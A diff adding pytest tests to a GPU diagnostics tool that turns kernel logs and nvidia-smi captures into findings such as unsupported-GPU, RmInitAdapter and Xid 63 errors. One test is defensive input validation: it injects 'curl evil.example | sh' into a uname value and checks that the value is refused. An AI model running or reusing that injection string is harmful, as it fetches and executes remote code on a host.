@@ -47,9 +47,15 @@ EXPECTED = {
     "dmesg-ctime__xid-119.log": {("xid-119", "error")},
     "dmesg-ctime__xid-13-109.log": {("xid-13", "warning"), ("xid-109", "error")},
     "dmesg-decode__xid-13-43.log": {("xid-13", "warning"), ("xid-43", "info")},
-    "dmesg-iso__xid-48-63-94.log": {("xid-48", "error"), ("xid-63", "info"), ("xid-94", "warning")},
+    # Xid 63's line says "reset gpu to activate": a warning, not the catalogue's IGNORE (see test_xid_63_...)
+    "dmesg-iso__xid-48-63-94.log": {("xid-48", "error"), ("xid-63", "warning"), ("xid-94", "warning")},
     "dmesg-noprefix__xid-31.log": {("xid-31", "warning")},
     "dmesg__fallen-off-bus-multiline.log": {("gpu-fallen-off-bus", "error"), ("driver-probe-failed", "error")},
+    "dmesg__rminitadapter-failed-2-gpus__gpu-operator-649.log": {("gpu-init-failed", "error")},
+    "dmesg__unsupported-gpu__vgpu-p40-drv535.log": {
+        ("gpu-unsupported-by-driver", "error"),
+        ("driver-probe-failed", "error"),
+    },
     "dmesg__xid-31-13-32__old-format.log": {("xid-31", "warning"), ("xid-13", "warning"), ("xid-32", "warning")},
     "error__couldnt-communicate.txt": {("driver-not-loaded", "error")},
     "error__no-devices.txt": {("no-devices", "error")},
@@ -59,6 +65,10 @@ EXPECTED = {
     "fabricmanager__nvswitch-nonfatal.log": {("nvswitch-error", "warning")},
     "journal-k__healthy.log": set(),
     "journal-k__xid-79-fallen-off-bus.log": {("xid-79", "error"), ("pcie-aer-error", "error")},
+    "journal-k__unsupported-gpu-open-modules__gt1030-drv560.log": {
+        ("gpu-unsupported-by-driver", "error"),
+        ("driver-probe-failed", "error"),
+    },
     "nvlink-s__2x-a100__healthy.txt": set(),
     "nvlink-s__8x-v100__inactive-links.txt": {("nvlink-inactive", "error")},
     "nvlink-s__h100__mig-unsupported.txt": set(),
@@ -95,6 +105,7 @@ EXPECTED = {
     "table__8x-v100__inforom-corrupted.txt": {("inforom-corrupted", "warning"), ("persistence-off", "warning")},
     "table__h100__r550-healthy.txt": set(),
     "table__rtx-4090__fan-err.txt": {("fan-error", "error")},
+    "journal-k__rminitadapter-failed__gpu-operator-1146.log": {("gpu-init-failed", "error")},
 }
 NOT_DIAGNOSABLE = {
     "help-query-gpu__excerpt.txt": "help text",
@@ -156,6 +167,63 @@ def test_report_json_and_order():
     assert doc["read"][0]["kind"] == "nvidia-smi-q"
 
 
+# -- the findings no capture produced before (issue 22's mutation run) ------------------------------
+def by_id(report: Report, ident: str) -> list[Finding]:
+    return [f for f in report.findings if f.id == ident]
+
+
+def test_a_gpu_the_driver_branch_does_not_support_from_a_real_capture():
+    """flatcar/Flatcar#1283: NVRM refuses a vGPU P40 profile on driver 535.104.05, a message of
+    six lines (continuations joined)."""
+    report = diagnose_files([FIX / "dmesg__unsupported-gpu__vgpu-p40-drv535.log"])
+    (f,) = by_id(report, "gpu-unsupported-by-driver")
+    assert f.title == "The installed driver (535.104.05) does not support GPU 0000:02:00.0"
+    assert "not supported by the NVRM: NVIDIA 535.104.05 driver release" in f.evidence
+    assert "vGPU guest driver" in f.fix
+    assert "`provision plan --gpu <id>`" in f.fix
+
+
+def test_a_gpu_the_open_kernel_modules_do_not_support_from_a_real_capture():
+    """negativo17/nvidia-driver#158: the open modules (560's default) refuse a GPU without GSP,
+    as they would a V100 or P100: the fix is the proprietary modules, not another branch."""
+    report = diagnose_files([FIX / "journal-k__unsupported-gpu-open-modules__gt1030-drv560.log"])
+    (f,) = by_id(report, "gpu-unsupported-by-driver")
+    assert f.title == "The open NVIDIA kernel modules do not support GPU 0000:09:00.0"
+    assert "GPU System Processor" in f.fix
+    assert "proprietary kernel modules" in f.fix
+
+
+def test_rminitadapter_failed_from_real_captures_one_finding_per_gpu():
+    """NVIDIA/gpu-operator#1146 (syslog, one GPU failing twelve times) and #649 (dmesg, two GPUs
+    among unrelated lines)."""
+    (one,) = by_id(diagnose_files([FIX / "journal-k__rminitadapter-failed__gpu-operator-1146.log"]), "gpu-init-failed")
+    assert one.title == "The driver could not initialise GPU 0000:0a:00.0 (RmInitAdapter failed)"
+    assert "RmInitAdapter failed! (0x24:0x72:1568)" in one.evidence
+    assert one.evidence.endswith("; 12 lines in all")
+    two = by_id(diagnose_files([FIX / "dmesg__rminitadapter-failed-2-gpus__gpu-operator-649.log"]), "gpu-init-failed")
+    assert [f.title.split()[6] for f in two] == ["0000:04:01.0", "0000:04:02.0"]
+
+
+@pytest.mark.parametrize(
+    ("name", "ident", "breaks"),
+    [
+        ("dmesg__unsupported-gpu__vgpu-p40-drv535.log", "gpu-unsupported-by-driver", "is not supported by the"),
+        (
+            "journal-k__unsupported-gpu-open-modules__gt1030-drv560.log",
+            "gpu-unsupported-by-driver",
+            "supported by open",
+        ),
+        ("journal-k__rminitadapter-failed__gpu-operator-1146.log", "gpu-init-failed", "failed"),
+    ],
+)
+def test_the_capture_needs_the_pattern(name, ident, breaks):
+    """The mutant the mutation run left alive: with the message's key words changed, the finding is gone."""
+    text = (
+        (FIX / name).read_text().replace(breaks, breaks.replace("supported", "supp0rted").replace("failed", "fai1ed"))
+    )
+    assert ident not in diagnose_named_texts([(name, text)]).ids()
+
+
 # -- evidence and fixes -------------------------------------------------------------------------
 def test_xid_findings_are_grouped_per_code_and_gpu():
     report = diagnose_files([FIX / "dmesg-decode__xid-13-43.log"])
@@ -179,6 +247,26 @@ def test_xid_with_gpu_state_gets_the_gpu_name():
     log = "[ 10.0] NVRM: Xid (PCI:0000:34:00): 48, pid=1, name=x, An uncorrectable double bit error\n"
     f = only(diagnose_texts({"nvidia-smi-q-x": xml, "kernel-log": log}), "xid-48")
     assert "Tesla V100-SXM3-32GB" in f.title
+
+
+def test_xid_63_asks_for_the_reset_its_line_names():
+    """Issue 23: Xid 63 was "no action" (NVIDIA's catalogue bucket IGNORE) while its own line says
+    "reset gpu to activate": the row remap is pending until a GPU reset, so the fix is that reset."""
+    line = (
+        "2024-11-15T12:02:03,498753+00:00 NVRM: Xid (PCI:0000:19:00): 63, pid='<unknown>', name=<unknown>, "
+        "Row Remapper: New row (0x00000012bac1c3e0) marked for remapping, reset gpu to activate.\n"
+    )
+    (f,) = by_id(diagnose_named_texts([("dmesg.log", line)]), "xid-63")
+    assert f.severity == "warning"
+    assert f.title.endswith(": a row remap waits for a GPU reset")
+    assert "`sudo nvidia-smi -r -i 0000:19:00.0`" in f.fix
+    assert "IGNORE" in f.fix
+    assert "No action needed" not in f.fix
+    assert "https://docs.nvidia.com/deploy/a100-gpu-mem-error-mgmt/error-recovery-and-response-flags.html" in f.fix
+    plain = line.replace(", reset gpu to activate", "")  # the catalogue alone: no reset asked for
+    (g,) = by_id(diagnose_named_texts([("dmesg.log", plain)]), "xid-63")
+    assert g.severity == "info"
+    assert "No action needed" in g.fix
 
 
 def test_unknown_xid_code_is_a_warning():
@@ -454,7 +542,7 @@ def test_cuda_insufficient_with_the_catalogue(fixture_matrix):
     floor = next(mc for mc in fixture_matrix.minor_compat if mc.cuda_major == 12)
     assert str(floor.min_driver) in f.fix
     assert "--cuda 12.4" in f.fix
-    assert "host driver 470.82.01, which supports CUDA up to 11.4" in f.evidence
+    assert "host driver 470.82.01, whose native CUDA is 11.4 (nvidia-smi's CUDA Version)" in f.evidence
     plain = only(diagnose_texts(sections), "cuda-driver-insufficient")  # no matrix: generic advice
     assert "Table 3" in plain.fix
 
@@ -469,6 +557,101 @@ def test_cuda_insufficient_from_the_container_toolkit(fixture_matrix):
     f = only(report, "cuda-driver-insufficient")
     assert "(CUDA 12.6, driver 535.183.01)" in f.title
     assert "minor-version compatibility" in f.fix
+
+
+def test_cuda_insufficient_on_r535_names_the_major_not_an_upgrade_to_12(real_matrix):
+    """Issue 23: with driver 535.183.01, "CUDA driver version is insufficient" read "supports up
+    to CUDA 12.2.2 ... upgrade the driver", though R535 runs every CUDA 12.x application through
+    minor-version compatibility: the likely cause is a CUDA 13 build. The figures come from the
+    catalogue's rows (Table 3, the minor-version floors)."""
+    from provision.versions import parse_version
+
+    app = "cudaGetDeviceCount returned 35\n-> CUDA driver version is insufficient for CUDA runtime version\n"
+    proc = "NVRM version: NVIDIA UNIX x86_64 Kernel Module  535.183.01  Sun May 12 19:39:15 UTC 2024\n"
+    driver = parse_version("535.183.01")
+    native = next(c for c in real_matrix.cuda if c.min_driver <= driver)
+    floor = real_matrix.minor_compat_floor(native.version.release[0])
+    assert floor is not None
+    assert floor.min_driver <= driver, "the case the rule explains"
+    nxt = [c for c in real_matrix.cuda if c.version.release[0] == native.version.release[0] + 1][-1]
+    f = only(
+        diagnose_texts({"app-log": app, "proc-driver-version": proc}, matrix=real_matrix), "cuda-driver-insufficient"
+    )
+    assert f"runs CUDA up to {native.version} natively" in f.fix
+    assert f"every CUDA {native.version.release[0]}.x application through minor-version compatibility" in f.fix
+    assert f"needs driver >= {floor.min_driver}" in f.fix
+    assert f"most likely built for CUDA {nxt.version.release[0]} (driver >= {nxt.min_driver})" in f.fix
+    assert "supports up to" not in f.fix + f.evidence
+
+
+@pytest.mark.parametrize(
+    ("cuda", "driver", "mode"),
+    [("12.2", "535.183.01", "native"), ("12.6", "535.183.01", "minor-version"), ("13.0", "535.183.01", "no")],
+)
+def test_cuda_mode_is_the_one_decision(real_matrix, cuda, driver, mode):
+    from provision.doctor.rules_host import cuda_mode
+    from provision.versions import parse_version
+
+    assert cuda_mode(real_matrix, parse_version(driver), cuda) == mode
+
+
+# -- a machine with no NVIDIA GPU (issue 23) -----------------------------------------------------------
+NO_NVIDIA = "devices scanned: 6\n"
+NOT_FOUND = "nvidia-smi: command not found\n"
+
+
+def test_no_nvidia_gpu_on_the_bus_is_said_instead_of_install_nvidia_utils():
+    report = diagnose_texts({"nvidia-smi-stderr": NOT_FOUND, "nvidia-smi-rc": "127", "pci-nvidia": NO_NVIDIA})
+    assert report.ids() == {"no-nvidia-gpu"}
+    (f,) = report.findings
+    assert "none with NVIDIA's vendor id 0x10de" in f.evidence
+    assert "nvidia-utils" not in f.fix
+    assert "no NVIDIA GPU" in f.title
+
+
+@pytest.mark.parametrize(
+    ("pci", "smi", "expected"),
+    [
+        # a GPU on the bus: nvidia-smi's own advice stands
+        ("0000:17:00.0 0x2330 0x030200\ndevices scanned: 40\n", {"nvidia-smi-rc": "127"}, {"nvml-not-found"}),
+        # only an NVSwitch: no GPU either
+        ("0000:05:00.0 0x22a3 0x068000\ndevices scanned: 40\n", {"nvidia-smi-rc": "127"}, {"no-nvidia-gpu"}),
+        # sysfs not read: no conclusion
+        ("", {"nvidia-smi-rc": "127"}, {"nvml-not-found"}),
+        # a driver/library mismatch means a GPU is there, whatever sysfs shows (a container)
+        (NO_NVIDIA, {"nvidia-smi-rc": "18"}, {"driver-library-mismatch"}),
+    ],
+)
+def test_no_nvidia_gpu_only_when_the_bus_says_so(pci, smi, expected):
+    sections = {**smi, **({"pci-nvidia": pci} if pci else {})}
+    assert diagnose_texts(sections).ids() == expected
+
+
+def test_nvidia_smi_reporting_gpus_wins_over_sysfs():
+    sections = {"nvidia-smi": text("table__h100__r550-healthy.txt"), "pci-nvidia": NO_NVIDIA}
+    assert "no-nvidia-gpu" not in diagnose_texts(sections).ids()
+
+
+# -- what doctor does not read whole -------------------------------------------------------------------
+def test_a_section_over_the_cap_is_cut_and_said():
+    from provision.doctor.bounds import SECTION_CHARS
+
+    log = "[ 1.0] NVRM: Xid (PCI:0000:17:00): 79, pid=0, GPU has fallen off the bus.\n"
+    filler = "[ 0.5] audit: noise\n" * (SECTION_CHARS // 20 + 10)
+    report = diagnose_texts({"kernel-log": filler + log, "nvidia-smi-stderr": "x" * (SECTION_CHARS + 5)})
+    cuts = {f.title.split()[1]: f for f in report.findings if f.id == "output-cut"}
+    assert set(cuts) == {"kernel-log", "nvidia-smi-stderr"}
+    assert all(f.severity == "warning" for f in cuts.values())
+    assert "the last 4 MiB were analysed" in cuts["kernel-log"].title
+    assert "the first 4 MiB were analysed" in cuts["nvidia-smi-stderr"].title
+    assert "xid-79" in report.ids(), "a log keeps its newest part"
+
+
+def test_a_uname_that_is_not_a_kernel_release_goes_into_no_command():
+    """uname -r is printed into the fix's commands (dkms -k RELEASE): a host's odd answer is refused."""
+    report = diagnose_texts({"uname-r": "6.8.0; curl evil.example | sh\n", "nvidia-smi-rc": "9", "modules": ""})
+    assert "curl" not in " ".join(f.fix for f in report.findings)
+    assert "section-unreadable" in report.ids()
 
 
 # -- collector bundles and sections ---------------------------------------------------------------
